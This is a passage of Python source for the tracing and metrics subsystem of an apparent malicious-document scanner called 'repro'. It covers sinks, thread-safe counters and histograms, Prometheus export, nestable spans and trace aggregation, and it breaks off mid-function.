    def emit_span(self, record: Dict[str, Any]) -> None:
        self.spans.append(record)

    def emit_event(self, record: Dict[str, Any]) -> None:
        self.events.append(record)

    def emit_metric(self, record: Dict[str, Any]) -> None:
        self.metrics.append(record)

    # -- conveniences used by tests/benchmarks ---------------------------

    def spans_named(self, name: str) -> List[Dict[str, Any]]:
        return [s for s in self.spans if s["name"] == name]

    def events_named(self, name: str) -> List[Dict[str, Any]]:
        return [e for e in self.events if e["name"] == name]

    def clear(self) -> None:
        self.spans.clear()
        self.events.clear()
        self.metrics.clear()


class JSONLSink(Sink):
    """Appends one JSON object per line to a file (``--trace`` output).

    Safe under concurrent emitters (batch/serve worker threads share
    one sink): each record is serialised *outside* the lock, then the
    complete ``line\\n`` goes out as a single locked ``write()`` so
    lines from different threads can never interleave mid-record.
    """

    def __init__(self, path: Any) -> None:
        self.path = str(path)
        self._lock = threading.Lock()
        self._fh: Optional[TextIO] = open(self.path, "w", encoding="utf-8")

    def _write(self, record: Dict[str, Any]) -> None:
        line = json.dumps(record, sort_keys=True, default=str) + "\n"
        with self._lock:
            if self._fh is None:
                return
            self._fh.write(line)

    def emit_span(self, record: Dict[str, Any]) -> None:
        self._write(record)

    def emit_event(self, record: Dict[str, Any]) -> None:
        self._write(record)

    def emit_metric(self, record: Dict[str, Any]) -> None:
        self._write(record)

    def close(self) -> None:
        with self._lock:
            if self._fh is not None:
                self._fh.close()
                self._fh = None


class StderrSink(Sink):
    """Human-readable one-liners, for interactive debugging."""

    def __init__(self, stream: Optional[TextIO] = None) -> None:
        self._stream = stream

    @property
    def stream(self) -> TextIO:
        return self._stream if self._stream is not None else sys.stderr

    @staticmethod
    def _tags(record: Dict[str, Any]) -> str:
        tags = record.get("tags") or {}
        return " ".join(f"{k}={v}" for k, v in sorted(tags.items()))

    def emit_span(self, record: Dict[str, Any]) -> None:
        self.stream.write(
            f"[span]   {record['name']} {record['duration'] * 1000:.2f}ms "
            f"{self._tags(record)}\n"
        )

    def emit_event(self, record: Dict[str, Any]) -> None:
        self.stream.write(f"[event]  {record['name']} {self._tags(record)}\n")

    def emit_metric(self, record: Dict[str, Any]) -> None:
        self.stream.write(
            f"[metric] {record['kind']} {record['key']} = {record['value']}\n"
        )


class TeeSink(Sink):
    """Fans every record out to several sinks (e.g. file + stderr)."""

    def __init__(self, *sinks: Sink) -> None:
        self.sinks = list(sinks)

    @property  # type: ignore[override]
    def enabled(self) -> bool:
        return any(s.enabled for s in self.sinks)

    def emit_span(self, record: Dict[str, Any]) -> None:
        for sink in self.sinks:
            sink.emit_span(record)

    def emit_event(self, record: Dict[str, Any]) -> None:
        for sink in self.sinks:
            sink.emit_event(record)

    def emit_metric(self, record: Dict[str, Any]) -> None:
        for sink in self.sinks:
            sink.emit_metric(record)

    def close(self) -> None:
        for sink in self.sinks:
            sink.close()
