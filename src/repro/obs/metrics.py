"""Counters, gauges and fixed-bucket histograms.

A :class:`Metrics` registry aggregates in memory; series are keyed by
``(name, labels)`` so ``syscalls{context=in_js}`` and
``syscalls{context=out_js}`` are distinct.  :meth:`Metrics.flush`
emits one record per series to the sink (JSONL traces therefore carry
the final aggregate alongside the raw spans/events), and
:meth:`Metrics.render` produces the human-readable summary shown by
``repro scan --metrics``.

The registry itself always aggregates when called; whether the *hot
paths* call it at all is governed by ``Observability.enabled`` — the
same switch the tracer uses.
"""

from __future__ import annotations

from bisect import bisect_left
from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.obs.sinks import NULL_SINK, Sink

#: Generic default bucket bounds (covers sub-ms latencies through
#: malscore-sized values); per-histogram bounds may override.
DEFAULT_BUCKETS: Tuple[float, ...] = (
    0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 25.0, 50.0, 100.0,
)

_Key = Tuple[str, Tuple[Tuple[str, str], ...]]


def _key(name: str, labels: Dict[str, Any]) -> _Key:
    return (name, tuple(sorted((k, str(v)) for k, v in labels.items())))


def _key_text(key: _Key) -> str:
    name, labels = key
    if not labels:
        return name
    inner = ",".join(f"{k}={v}" for k, v in labels)
    return f"{name}{{{inner}}}"


class Histogram:
    """Fixed-bucket histogram: counts of observations ≤ each bound."""

    __slots__ = ("bounds", "bucket_counts", "count", "total", "min", "max")

    def __init__(self, bounds: Sequence[float]) -> None:
        self.bounds: Tuple[float, ...] = tuple(sorted(bounds))
        if not self.bounds:
            raise ValueError("histogram needs at least one bucket bound")
        #: counts[i] observations with value <= bounds[i]; the implicit
        #: overflow bucket is count - sum(bucket_counts).
        self.bucket_counts: List[int] = [0] * len(self.bounds)
        self.count = 0
        self.total = 0.0
        self.min: Optional[float] = None
        self.max: Optional[float] = None

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        self.min = value if self.min is None else min(self.min, value)
        self.max = value if self.max is None else max(self.max, value)
        index = bisect_left(self.bounds, value)
        if index < len(self.bounds):
            self.bucket_counts[index] += 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    @property
    def overflow(self) -> int:
        return self.count - sum(self.bucket_counts)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "count": self.count,
            "sum": self.total,
            "mean": self.mean,
            "min": self.min,
            "max": self.max,
            "buckets": [
                {"le": bound, "count": count}
                for bound, count in zip(self.bounds, self.bucket_counts)
            ],
            "overflow": self.overflow,
        }


class Metrics:
    """In-memory metric registry bound to one sink."""

    def __init__(self, sink: Optional[Sink] = None) -> None:
        self.sink = sink if sink is not None else NULL_SINK
        self._counters: Dict[_Key, float] = {}
        self._gauges: Dict[_Key, float] = {}
        self._histograms: Dict[_Key, Histogram] = {}

    # -- recording --------------------------------------------------------

    def inc(self, name: str, amount: float = 1, **labels: Any) -> None:
        key = _key(name, labels)
        self._counters[key] = self._counters.get(key, 0) + amount

    def set_gauge(self, name: str, value: float, **labels: Any) -> None:
        self._gauges[_key(name, labels)] = value

    def observe(
        self,
        name: str,
        value: float,
        buckets: Optional[Sequence[float]] = None,
        **labels: Any,
    ) -> None:
        key = _key(name, labels)
        histogram = self._histograms.get(key)
        if histogram is None:
            histogram = Histogram(buckets if buckets is not None else DEFAULT_BUCKETS)
            self._histograms[key] = histogram
        histogram.observe(value)

    # -- reading ----------------------------------------------------------

    def counter_value(self, name: str, **labels: Any) -> float:
        return self._counters.get(_key(name, labels), 0)

    def gauge_value(self, name: str, **labels: Any) -> Optional[float]:
        return self._gauges.get(_key(name, labels))

    def histogram(self, name: str, **labels: Any) -> Optional[Histogram]:
        return self._histograms.get(_key(name, labels))

    def snapshot(self) -> Dict[str, Dict[str, Any]]:
        """Everything aggregated so far, keyed by ``name{labels}``."""
        return {
            "counters": {_key_text(k): v for k, v in sorted(self._counters.items())},
            "gauges": {_key_text(k): v for k, v in sorted(self._gauges.items())},
            "histograms": {
                _key_text(k): h.to_dict() for k, h in sorted(self._histograms.items())
            },
        }

    # -- output -----------------------------------------------------------

    def flush(self) -> None:
        """Emit one ``metric`` record per series to the sink."""
        if not self.sink.enabled:
            return
        for key, value in sorted(self._counters.items()):
            self.sink.emit_metric(
                {"type": "metric", "kind": "counter", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key), "value": value}
            )
        for key, value in sorted(self._gauges.items()):
            self.sink.emit_metric(
                {"type": "metric", "kind": "gauge", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key), "value": value}
            )
        for key, histogram in sorted(self._histograms.items()):
            self.sink.emit_metric(
                {"type": "metric", "kind": "histogram", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key),
                 "value": histogram.mean, **histogram.to_dict()}
            )

    def render(self) -> str:
        """Human-readable summary (``repro scan --metrics``)."""
        lines: List[str] = []
        for key, value in sorted(self._counters.items()):
            lines.append(f"counter    {_key_text(key)} = {value:g}")
        for key, value in sorted(self._gauges.items()):
            lines.append(f"gauge      {_key_text(key)} = {value:g}")
        for key, histogram in sorted(self._histograms.items()):
            lines.append(
                f"histogram  {_key_text(key)} count={histogram.count} "
                f"mean={histogram.mean:g} min={histogram.min:g} "
                f"max={histogram.max:g}"
            )
        return "\n".join(lines) if lines else "(no metrics recorded)"
