"""Counters, gauges and fixed-bucket histograms.

A :class:`Metrics` registry aggregates in memory; series are keyed by
``(name, labels)`` so ``syscalls{context=in_js}`` and
``syscalls{context=out_js}`` are distinct.  :meth:`Metrics.flush`
emits one record per series to the sink (JSONL traces therefore carry
the final aggregate alongside the raw spans/events), and
:meth:`Metrics.render` produces the human-readable summary shown by
``repro scan --metrics``.

The registry itself always aggregates when called; whether the *hot
paths* call it at all is governed by ``Observability.enabled`` — the
same switch the tracer uses.  A single internal lock makes concurrent
``inc``/``observe``/``snapshot`` from serve-style worker threads safe
(dict updates alone are GIL-atomic, but read-modify-write of counters
and multi-field histogram updates are not).

:meth:`Metrics.render_prometheus` serialises the registry as Prometheus
text exposition format 0.0.4 (cumulative ``_bucket`` counts with
``le="+Inf"``, ``_sum``, ``_count``) for ``GET
/metrics?format=prometheus`` on the scan service.
"""

from __future__ import annotations

import re
import threading
from bisect import bisect_left
from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.obs.sinks import NULL_SINK, Sink

#: Generic default bucket bounds (covers sub-ms latencies through
#: malscore-sized values); per-histogram bounds may override.
DEFAULT_BUCKETS: Tuple[float, ...] = (
    0.001, 0.005, 0.01, 0.05, 0.1, 0.5, 1.0, 5.0, 10.0, 25.0, 50.0, 100.0,
)

_Key = Tuple[str, Tuple[Tuple[str, str], ...]]


def _key(name: str, labels: Dict[str, Any]) -> _Key:
    return (name, tuple(sorted((k, str(v)) for k, v in labels.items())))


def _key_text(key: _Key) -> str:
    name, labels = key
    if not labels:
        return name
    inner = ",".join(f"{k}={v}" for k, v in labels)
    return f"{name}{{{inner}}}"


class Histogram:
    """Fixed-bucket histogram: counts of observations ≤ each bound."""

    __slots__ = ("bounds", "bucket_counts", "count", "total", "min", "max")

    def __init__(self, bounds: Sequence[float]) -> None:
        self.bounds: Tuple[float, ...] = tuple(sorted(bounds))
        if not self.bounds:
            raise ValueError("histogram needs at least one bucket bound")
        #: counts[i] observations with value <= bounds[i]; the implicit
        #: overflow bucket is count - sum(bucket_counts).
        self.bucket_counts: List[int] = [0] * len(self.bounds)
        self.count = 0
        self.total = 0.0
        self.min: Optional[float] = None
        self.max: Optional[float] = None

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        self.min = value if self.min is None else min(self.min, value)
        self.max = value if self.max is None else max(self.max, value)
        index = bisect_left(self.bounds, value)
        if index < len(self.bounds):
            self.bucket_counts[index] += 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0

    @property
    def overflow(self) -> int:
        return self.count - sum(self.bucket_counts)

    def quantile(self, q: float) -> float:
        """Estimate the ``q``-quantile (``q`` in [0, 1]) from buckets.

        Linear interpolation across the bucket holding the target rank,
        the same estimator Prometheus' ``histogram_quantile`` uses —
        with two refinements possible only because we track ``min`` and
        ``max``: the first bucket interpolates from ``min`` rather than
        0 (latencies never start at zero) and the overflow bucket
        interpolates toward ``max`` rather than being clamped to the
        last bound.  The result is always within [min, max].
        """
        if not 0.0 <= q <= 1.0:
            raise ValueError("quantile q must be in [0, 1]")
        if self.count == 0 or self.min is None or self.max is None:
            return 0.0
        if q == 0.0:
            return self.min
        rank = q * self.count
        lower_bound = self.min
        cumulative = 0
        for bound, bucket in zip(self.bounds, self.bucket_counts):
            if bucket:
                upper = min(bound, self.max)
                if cumulative + bucket >= rank:
                    fraction = (rank - cumulative) / bucket
                    value = lower_bound + (upper - lower_bound) * fraction
                    return min(max(value, self.min), self.max)
                cumulative += bucket
                lower_bound = max(lower_bound, upper)
            elif cumulative:
                lower_bound = max(lower_bound, min(bound, self.max))
        # Target rank lives in the overflow bucket: interpolate from the
        # last populated bound toward the observed max.
        remaining = self.count - cumulative
        if remaining <= 0:
            return self.max
        fraction = (rank - cumulative) / remaining
        value = lower_bound + (self.max - lower_bound) * fraction
        return min(max(value, self.min), self.max)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "count": self.count,
            "sum": self.total,
            "mean": self.mean,
            "min": self.min,
            "max": self.max,
            "buckets": [
                {"le": bound, "count": count}
                for bound, count in zip(self.bounds, self.bucket_counts)
            ],
            "overflow": self.overflow,
        }


class Metrics:
    """In-memory metric registry bound to one sink."""

    def __init__(self, sink: Optional[Sink] = None) -> None:
        self.sink = sink if sink is not None else NULL_SINK
        self._lock = threading.Lock()
        self._counters: Dict[_Key, float] = {}
        self._gauges: Dict[_Key, float] = {}
        self._histograms: Dict[_Key, Histogram] = {}

    # -- recording --------------------------------------------------------

    def inc(self, name: str, amount: float = 1, **labels: Any) -> None:
        key = _key(name, labels)
        with self._lock:
            self._counters[key] = self._counters.get(key, 0) + amount

    def set_gauge(self, name: str, value: float, **labels: Any) -> None:
        key = _key(name, labels)
        with self._lock:
            self._gauges[key] = value

    def observe(
        self,
        name: str,
        value: float,
        buckets: Optional[Sequence[float]] = None,
        **labels: Any,
    ) -> None:
        key = _key(name, labels)
        with self._lock:
            histogram = self._histograms.get(key)
            if histogram is None:
                histogram = Histogram(
                    buckets if buckets is not None else DEFAULT_BUCKETS
                )
                self._histograms[key] = histogram
            histogram.observe(value)

    # -- reading ----------------------------------------------------------

    def counter_value(self, name: str, **labels: Any) -> float:
        with self._lock:
            return self._counters.get(_key(name, labels), 0)

    def gauge_value(self, name: str, **labels: Any) -> Optional[float]:
        with self._lock:
            return self._gauges.get(_key(name, labels))

    def histogram(self, name: str, **labels: Any) -> Optional[Histogram]:
        with self._lock:
            return self._histograms.get(_key(name, labels))

    def snapshot(self) -> Dict[str, Dict[str, Any]]:
        """Everything aggregated so far, keyed by ``name{labels}``."""
        with self._lock:
            return {
                "counters": {
                    _key_text(k): v for k, v in sorted(self._counters.items())
                },
                "gauges": {_key_text(k): v for k, v in sorted(self._gauges.items())},
                "histograms": {
                    _key_text(k): h.to_dict()
                    for k, h in sorted(self._histograms.items())
                },
            }

    # -- output -----------------------------------------------------------

    def flush(self) -> None:
        """Emit one ``metric`` record per series to the sink."""
        if not self.sink.enabled:
            return
        with self._lock:
            counters = sorted(self._counters.items())
            gauges = sorted(self._gauges.items())
            histograms = sorted(self._histograms.items())
        for key, value in counters:
            self.sink.emit_metric(
                {"type": "metric", "kind": "counter", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key), "value": value}
            )
        for key, value in gauges:
            self.sink.emit_metric(
                {"type": "metric", "kind": "gauge", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key), "value": value}
            )
        for key, histogram in histograms:
            self.sink.emit_metric(
                {"type": "metric", "kind": "histogram", "name": key[0],
                 "labels": dict(key[1]), "key": _key_text(key),
                 "value": histogram.mean, **histogram.to_dict()}
            )

    def render(self) -> str:
        """Human-readable summary (``repro scan --metrics``)."""
        with self._lock:
            counters = sorted(self._counters.items())
            gauges = sorted(self._gauges.items())
            histograms = sorted(self._histograms.items())
        lines: List[str] = []
        for key, value in counters:
            lines.append(f"counter    {_key_text(key)} = {value:g}")
        for key, value in gauges:
            lines.append(f"gauge      {_key_text(key)} = {value:g}")
        for key, histogram in histograms:
            lines.append(
                f"histogram  {_key_text(key)} count={histogram.count} "
                f"mean={histogram.mean:g} min={histogram.min:g} "
                f"max={histogram.max:g}"
            )
        return "\n".join(lines) if lines else "(no metrics recorded)"

    def render_prometheus(self, prefix: str = "repro") -> str:
        """Prometheus text exposition format 0.0.4.

        Counters/gauges render one sample per series; histograms render
        cumulative ``_bucket{le=...}`` samples closed by ``le="+Inf"``
        plus ``_sum`` and ``_count``.  Series names are sanitised to the
        Prometheus grammar and namespaced under ``prefix_``.
        """
        with self._lock:
            counters = sorted(self._counters.items())
            gauges = sorted(self._gauges.items())
            histograms = [
                (key, histogram.to_dict())
                for key, histogram in sorted(self._histograms.items())
            ]

        lines: List[str] = []
        typed: set = set()

        def emit_type(name: str, kind: str) -> None:
            if name not in typed:
                typed.add(name)
                lines.append(f"# TYPE {name} {kind}")

        for key, value in counters:
            name = _prom_name(key[0], prefix)
            emit_type(name, "counter")
            lines.append(f"{name}{_prom_labels(key[1])} {_prom_value(value)}")
        for key, value in gauges:
            name = _prom_name(key[0], prefix)
            emit_type(name, "gauge")
            lines.append(f"{name}{_prom_labels(key[1])} {_prom_value(value)}")
        for key, data in histograms:
            name = _prom_name(key[0], prefix)
            emit_type(name, "histogram")
            cumulative = 0
            for bucket in data["buckets"]:
                cumulative += bucket["count"]
                labels = key[1] + (("le", _prom_value(bucket["le"])),)
                lines.append(
                    f"{name}_bucket{_prom_labels(labels)} {cumulative}"
                )
            labels = key[1] + (("le", "+Inf"),)
            lines.append(f"{name}_bucket{_prom_labels(labels)} {data['count']}")
            lines.append(
                f"{name}_sum{_prom_labels(key[1])} {_prom_value(data['sum'])}"
            )
            lines.append(f"{name}_count{_prom_labels(key[1])} {data['count']}")
        return "\n".join(lines) + "\n" if lines else ""


_PROM_NAME_BAD = re.compile(r"[^a-zA-Z0-9_:]")
_PROM_LABEL_BAD = re.compile(r"[^a-zA-Z0-9_]")


def _prom_name(name: str, prefix: str) -> str:
    base = _PROM_NAME_BAD.sub("_", name)
    if prefix:
        base = f"{prefix}_{base}"
    if not re.match(r"[a-zA-Z_:]", base):
        base = f"_{base}"
    return base


def _prom_labels(labels: Tuple[Tuple[str, str], ...]) -> str:
    if not labels:
        return ""
    parts = []
    for key, value in labels:
        key = _PROM_LABEL_BAD.sub("_", key)
        if not re.match(r"[a-zA-Z_]", key):
            key = f"_{key}"
        escaped = (
            str(value)
            .replace("\\", "\\\\")
            .replace('"', '\\"')
            .replace("\n", "\\n")
        )
        parts.append(f'{key}="{escaped}"')
    return "{" + ",".join(parts) + "}"


def _prom_value(value: Any) -> str:
    if isinstance(value, float):
        if value != value:  # NaN
            return "NaN"
        if value in (float("inf"), float("-inf")):
            return "+Inf" if value > 0 else "-Inf"
        if value == int(value) and abs(value) < 1e15:
            return str(int(value))
        return repr(value)
    return str(value)
