"""End-to-end tracing & metrics for both detection phases (``repro.obs``).

The subsystem has three pieces (see ``docs/OBSERVABILITY.md``):

* :class:`Tracer` — nestable spans over a monotonic clock, plus point
  events attached to the open span (one per hooked syscall, feature
  firing, context switch, confinement action).
* :class:`Metrics` — counters, gauges and fixed-bucket histograms
  (``docs_scanned``, ``syscalls{context=in_js}``, the ``malscore``
  distribution, …).
* Sinks — :class:`NullSink` (default, near-zero overhead),
  :class:`MemorySink` (tests/benchmarks), :class:`JSONLSink`
  (``repro scan --trace t.jsonl`` / ``repro report t.jsonl``) and
  :class:`StderrSink`.
* :mod:`repro.obs.profile` — per-scan phase attribution
  (:class:`ScanProfile`), JS-interpreter hotspot accounting
  (:class:`JSProfile`) and slow-scan exemplar capture
  (:class:`SlowScanBuffer`); see ``repro profile`` and
  ``GET /debug/slow``.

:class:`Observability` bundles one tracer + one metrics registry over a
shared sink; every phase-I/phase-II component accepts an ``obs``
parameter defaulting to the process-wide instance (:func:`get_default`,
reconfigured with :func:`configure`).
"""

from __future__ import annotations

from typing import Optional, Union

from repro.obs.metrics import DEFAULT_BUCKETS, Histogram, Metrics
from repro.obs.profile import JSProfile, ScanProfile, SlowScanBuffer
from repro.obs.sinks import (
    JSONLSink,
    MemorySink,
    NULL_SINK,
    NullSink,
    Sink,
    StderrSink,
    TeeSink,
)
from repro.obs.trace import Span, Tracer

__all__ = [
    "DEFAULT_BUCKETS",
    "Histogram",
    "JSONLSink",
    "JSProfile",
    "MemorySink",
    "Metrics",
    "NULL_SINK",
    "NullSink",
    "Observability",
    "ScanProfile",
    "Sink",
    "SlowScanBuffer",
    "Span",
    "StderrSink",
    "TeeSink",
    "Tracer",
    "configure",
    "get_default",
    "set_default",
]


class Observability:
    """One tracer + one metrics registry sharing a sink."""

    def __init__(self, sink: Optional[Sink] = None) -> None:
        self.sink = sink if sink is not None else NULL_SINK
        self.tracer = Tracer(self.sink)
        self.metrics = Metrics(self.sink)

    @property
    def enabled(self) -> bool:
        """The switch hot paths check before doing any telemetry work."""
        return self.sink.enabled

    def flush(self) -> None:
        """Emit the aggregated metrics to the sink."""
        self.metrics.flush()

    def close(self) -> None:
        """Flush metrics and close the sink (idempotent)."""
        self.flush()
        self.sink.close()

    # -- common configurations ------------------------------------------

    @classmethod
    def disabled(cls) -> "Observability":
        return cls(NULL_SINK)

    @classmethod
    def in_memory(cls) -> "Observability":
        return cls(MemorySink())

    @classmethod
    def to_jsonl(cls, path: Union[str, "object"]) -> "Observability":
        return cls(JSONLSink(path))


#: Process-wide default: disabled until `configure()` installs a sink.
_default = Observability()


def get_default() -> Observability:
    """The process-wide :class:`Observability` (a no-op by default)."""
    return _default


def set_default(obs: Observability) -> Observability:
    """Install ``obs`` process-wide; returns the previous instance."""
    global _default
    previous = _default
    _default = obs
    return previous


def configure(sink: Optional[Sink] = None) -> Observability:
    """Build an :class:`Observability` over ``sink`` and install it as
    the process-wide default.  ``configure(None)`` restores the no-op
    default."""
    return_value = Observability(sink)
    set_default(return_value)
    return return_value
