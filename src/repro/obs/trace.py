"""Nestable spans over a monotonic clock.

A :class:`Tracer` owns a stack of open spans; ``tracer.span(name)`` is
a context manager that opens a child of whatever span is currently on
top, so parent/child ids fall out of ordinary ``with`` nesting:

    with tracer.span("pipeline.scan", document=name):
        with tracer.span("instrument.parse") as sp:
            ...
        parse_seconds = sp.duration

Spans are *always* timed (``time.perf_counter``), even with the
:class:`~repro.obs.sinks.NullSink` installed, because callers read
``span.duration`` directly (the Table X phase timings are sourced this
way); only the *emission* to the sink is skipped when disabled.  Point
events (``tracer.event``) are the per-syscall hot path and are skipped
entirely when the sink is disabled.

The open-span stack is **thread-local**, so one shared tracer serves
the batch scanner's and service's worker threads without their spans
interleaving.  Two context managers bridge thread/process boundaries:

* ``tracer.attach(parent_id)`` — spans opened on this thread while no
  local span is on the stack parent to ``parent_id`` instead of being
  roots.  The pool submitter captures ``tracer.current_span_id`` and
  the worker attaches it, keeping span trees connected across the
  boundary (for processes the ids travel in the span dicts).
* ``tracer.collect()`` — in addition to sink emission, closed spans on
  this thread are appended (as dicts) to the yielded list, regardless
  of whether the sink is enabled.  This is how workers hand a scan's
  full span tree back to the slow-scan exemplar buffer.
"""

from __future__ import annotations

import contextlib
import itertools
import threading
import time
from typing import Any, Callable, Dict, Iterator, List, Optional

from repro.obs.sinks import NULL_SINK, Sink


class Span:
    """One timed, tagged operation; part of a parent/child tree."""

    __slots__ = ("name", "span_id", "parent_id", "tags", "start", "end")

    def __init__(
        self,
        name: str,
        span_id: int,
        parent_id: Optional[int],
        tags: Dict[str, Any],
        start: float,
    ) -> None:
        self.name = name
        self.span_id = span_id
        self.parent_id = parent_id
        self.tags = tags
        self.start = start
        self.end: Optional[float] = None

    @property
    def duration(self) -> float:
        """Seconds between enter and exit (0.0 while still open)."""
        if self.end is None:
            return 0.0
        return self.end - self.start

    def set_tag(self, key: str, value: Any) -> None:
        self.tags[key] = value

    def to_dict(self) -> Dict[str, Any]:
        return {
            "type": "span",
            "name": self.name,
            "span_id": self.span_id,
            "parent_id": self.parent_id,
            "start": self.start,
            "end": self.end,
            "duration": self.duration,
            "tags": dict(self.tags),
        }

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Span({self.name!r}, id={self.span_id}, {self.duration:.6f}s)"


class _ActiveSpan:
    """Context manager returned by :meth:`Tracer.span`."""

    __slots__ = ("_tracer", "_name", "_tags", "span")

    def __init__(self, tracer: "Tracer", name: str, tags: Dict[str, Any]) -> None:
        self._tracer = tracer
        self._name = name
        self._tags = tags
        self.span: Optional[Span] = None

    def __enter__(self) -> Span:
        self.span = self._tracer._open(self._name, self._tags)
        return self.span

    def __exit__(self, exc_type: Any, exc: Any, tb: Any) -> None:
        assert self.span is not None
        if exc_type is not None:
            self.span.tags["error"] = exc_type.__name__
        self._tracer._close(self.span)
        return None


class Tracer:
    """Span factory + event emitter bound to one sink."""

    def __init__(
        self,
        sink: Optional[Sink] = None,
        clock: Optional[Callable[[], float]] = None,
    ) -> None:
        self.sink = sink if sink is not None else NULL_SINK
        self.clock = clock if clock is not None else time.perf_counter
        self._ids = itertools.count(1)
        self._local = threading.local()

    @property
    def _stack(self) -> List[Span]:
        stack = getattr(self._local, "stack", None)
        if stack is None:
            stack = self._local.stack = []
        return stack

    @property
    def _attached(self) -> List[int]:
        attached = getattr(self._local, "attached", None)
        if attached is None:
            attached = self._local.attached = []
        return attached

    @property
    def _collectors(self) -> List[List[Dict[str, Any]]]:
        collectors = getattr(self._local, "collectors", None)
        if collectors is None:
            collectors = self._local.collectors = []
        return collectors

    @property
    def enabled(self) -> bool:
        return self.sink.enabled

    @property
    def current_span(self) -> Optional[Span]:
        stack = self._stack
        return stack[-1] if stack else None

    @property
    def current_span_id(self) -> Optional[int]:
        """Id the next span on this thread would parent to, if any."""
        stack = self._stack
        if stack:
            return stack[-1].span_id
        attached = self._attached
        return attached[-1] if attached else None

    # -- spans ------------------------------------------------------------

    def span(self, name: str, **tags: Any) -> _ActiveSpan:
        """Open a nested span: ``with tracer.span("x", k=v) as sp:``."""
        return _ActiveSpan(self, name, tags)

    def _open(self, name: str, tags: Dict[str, Any]) -> Span:
        span = Span(name, next(self._ids), self.current_span_id, tags, self.clock())
        self._stack.append(span)
        return span

    def _close(self, span: Span) -> None:
        span.end = self.clock()
        # Normal `with` nesting pops the top; be defensive about
        # out-of-order exits so one misuse cannot corrupt the stack.
        stack = self._stack
        if stack and stack[-1] is span:
            stack.pop()
        elif span in stack:
            stack.remove(span)
        collectors = self._collectors
        if self.sink.enabled or collectors:
            record = span.to_dict()
            if self.sink.enabled:
                self.sink.emit_span(record)
            for collector in collectors:
                collector.append(record)

    # -- cross-thread context ----------------------------------------------

    @contextlib.contextmanager
    def attach(self, parent_id: Optional[int]) -> Iterator[None]:
        """Parent this thread's root spans to ``parent_id`` while open.

        No-op when ``parent_id`` is None, so pool workers can attach
        unconditionally with whatever the submitter captured.
        """
        if parent_id is None:
            yield
            return
        attached = self._attached
        attached.append(parent_id)
        try:
            yield
        finally:
            if attached and attached[-1] == parent_id:
                attached.pop()
            elif parent_id in attached:
                attached.remove(parent_id)

    @contextlib.contextmanager
    def collect(self) -> Iterator[List[Dict[str, Any]]]:
        """Capture spans closed on this thread while the scope is open.

        Collection works even with a disabled sink (spans are always
        timed); nested collectors each receive the spans closed inside
        their own scope.
        """
        collected: List[Dict[str, Any]] = []
        collectors = self._collectors
        collectors.append(collected)
        try:
            yield collected
        finally:
            if collected in collectors:
                collectors.remove(collected)

    # -- point events ------------------------------------------------------

    def event(self, name: str, **tags: Any) -> None:
        """Emit a point event attached to the currently open span.

        No-op (one attribute check) when the sink is disabled — this is
        the per-hooked-syscall hot path.
        """
        if not self.sink.enabled:
            return
        current = self._stack[-1].span_id if self._stack else None
        self.sink.emit_event(
            {
                "type": "event",
                "name": name,
                "time": self.clock(),
                "span_id": current,
                "tags": tags,
            }
        )
