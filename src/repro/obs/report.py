"""Trace aggregation: turn a JSONL trace into summary tables.

Backs the ``repro report FILE.jsonl`` command and the benchmark
helpers that read span data out of a :class:`~repro.obs.sinks.MemorySink`
instead of re-timing by hand.
"""

from __future__ import annotations

import json
from collections import defaultdict
from pathlib import Path
from typing import Any, Dict, Iterable, List, Union

SpanRecord = Dict[str, Any]


def read_trace(path: Union[str, Path]) -> Dict[str, List[Dict[str, Any]]]:
    """Load a JSONL trace back into ``{"spans": [...], "events": [...],
    "metrics": [...]}`` (unknown record types are preserved under
    ``"other"``)."""
    out: Dict[str, List[Dict[str, Any]]] = {
        "spans": [], "events": [], "metrics": [], "other": [],
    }
    buckets = {"span": "spans", "event": "events", "metric": "metrics"}
    for line in Path(path).read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if not line:
            continue
        record = json.loads(line)
        out[buckets.get(record.get("type"), "other")].append(record)
    return out


# -- span-tree helpers (also used by the benchmark suite) -----------------


def spans_named(spans: Iterable[SpanRecord], name: str) -> List[SpanRecord]:
    return [s for s in spans if s["name"] == name]


def children_of(spans: Iterable[SpanRecord], root: SpanRecord) -> List[SpanRecord]:
    """Direct children of ``root`` in a flat span list."""
    root_id = root["span_id"]
    return [s for s in spans if s.get("parent_id") == root_id]


def child_durations(spans: Iterable[SpanRecord], root: SpanRecord) -> Dict[str, float]:
    """Summed duration of ``root``'s direct children, grouped by name."""
    durations: Dict[str, float] = defaultdict(float)
    for child in children_of(spans, root):
        durations[child["name"]] += child["duration"]
    return dict(durations)


# -- aggregation -----------------------------------------------------------


def aggregate_spans(spans: Iterable[SpanRecord]) -> List[List[str]]:
    """Per-span-name latency rows: name, count, total/mean/max seconds."""
    totals: Dict[str, List[float]] = defaultdict(list)
    for span in spans:
        totals[span["name"]].append(span["duration"])
    rows = []
    for name in sorted(totals, key=lambda n: -sum(totals[n])):
        values = totals[name]
        rows.append(
            [
                name,
                str(len(values)),
                f"{sum(values):.4f}",
                f"{sum(values) / len(values):.4f}",
                f"{max(values):.4f}",
            ]
        )
    return rows


def aggregate_events(events: Iterable[Dict[str, Any]]) -> List[List[str]]:
    """Per-event-name counts; syscall/feature events keep their most
    informative tag (context / feature) as part of the key."""
    counts: Dict[str, int] = defaultdict(int)
    for event in events:
        tags = event.get("tags") or {}
        label = event["name"]
        if "context" in tags:
            label += f"{{context={tags['context']}}}"
        if "feature" in tags:
            label += f"{{feature={tags['feature']}}}"
        counts[label] += 1
    return [[label, str(count)] for label, count in sorted(counts.items())]


def aggregate_metrics(metrics: Iterable[Dict[str, Any]]) -> List[List[str]]:
    rows = []
    for record in metrics:
        if record.get("kind") == "histogram":
            value = (
                f"count={record.get('count')} mean={record.get('mean', 0):.4g} "
                f"max={record.get('max')}"
            )
        else:
